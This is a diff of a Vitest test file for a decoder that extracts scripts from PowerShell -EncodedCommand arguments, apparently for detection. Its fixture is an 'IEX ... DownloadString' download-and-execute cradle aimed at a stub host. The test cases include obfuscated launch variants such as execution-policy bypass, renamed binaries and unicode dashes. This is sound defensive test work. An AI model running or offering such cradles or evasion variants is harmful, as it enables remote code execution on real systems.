@@ -1,19 +1,28 @@
 import { expect, it } from 'vitest'
 import { encodedCommand } from '../../../src/verbs/process/encoded-command.ts'
 
-const SCRIPT = 'IEX (New-Object Net.WebClient).DownloadString(\'http://x/\')'
+const SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://x/')"
 const BASE64 = Buffer.from(SCRIPT, 'utf16le').toString('base64')
 const WORD = 'EncodedCommand'
 
 it('reads -EncodedCommand in each of its abbreviations, whatever the case', () => {
   for (let length = 1; length <= WORD.length; length++) {
-    for (const word of [WORD.slice(0, length), WORD.slice(0, length).toUpperCase()]) expect(encodedCommand(`powershell.exe -NoP -${word} ${BASE64}`), word).toBe(SCRIPT)
+    for (const word of [WORD.slice(0, length), WORD.slice(0, length).toUpperCase()])
+      expect(encodedCommand(`powershell.exe -NoP -${word} ${BASE64}`), word).toBe(SCRIPT)
   }
 })
 
 it.each([
-  `powershell -ec ${BASE64}`, `powershell /enc ${BASE64}`, `powershell \u2013enc ${BASE64}`, `powershell \u2014e ${BASE64}`, `powershell -enc "${BASE64}"`, `powershell  -e   ${BASE64} -NoExit`,
-  `cmd.exe /c "powershell -enc ${BASE64}"`, `C:\\Users\\Public\\renamed.exe -enc ${BASE64}`, `powershell -enc:${BASE64}`, `pwsh.exe -Exec Bypass -EncodedCommand ${BASE64}`,
+  `powershell -ec ${BASE64}`,
+  `powershell /enc ${BASE64}`,
+  `powershell \u2013enc ${BASE64}`,
+  `powershell \u2014e ${BASE64}`,
+  `powershell -enc "${BASE64}"`,
+  `powershell  -e   ${BASE64} -NoExit`,
+  `cmd.exe /c "powershell -enc ${BASE64}"`,
+  `C:\\Users\\Public\\renamed.exe -enc ${BASE64}`,
+  `powershell -enc:${BASE64}`,
+  `pwsh.exe -Exec Bypass -EncodedCommand ${BASE64}`,
 ])('reads it in %s', line => {
   expect(encodedCommand(line)).toBe(SCRIPT)
 })
@@ -28,8 +37,16 @@ it('reads scripts in other languages', () => {
 })
 
 it.each([
-  '', 'notepad.exe', 'grep -e somepattern file', `tool.exe --enc ${BASE64}`, `powershell -ex ${BASE64}`, 'openssl enc -e AAAAAAAAAAAA', 'powershell -ExecutionPolicy Bypass -File C:\\Scripts\\collect.ps1',
-  `powershell -encodedcommandx ${BASE64}`, 'powershell -e abcdefghijklmnop', 'powershell -enc not base64 at all',
+  '',
+  'notepad.exe',
+  'grep -e somepattern file',
+  `tool.exe --enc ${BASE64}`,
+  `powershell -ex ${BASE64}`,
+  'openssl enc -e AAAAAAAAAAAA',
+  'powershell -ExecutionPolicy Bypass -File C:\\Scripts\\collect.ps1',
+  `powershell -encodedcommandx ${BASE64}`,
+  'powershell -e abcdefghijklmnop',
+  'powershell -enc not base64 at all',
 ])('finds none in %s', line => {
   expect(encodedCommand(line)).toBeUndefined()
 })
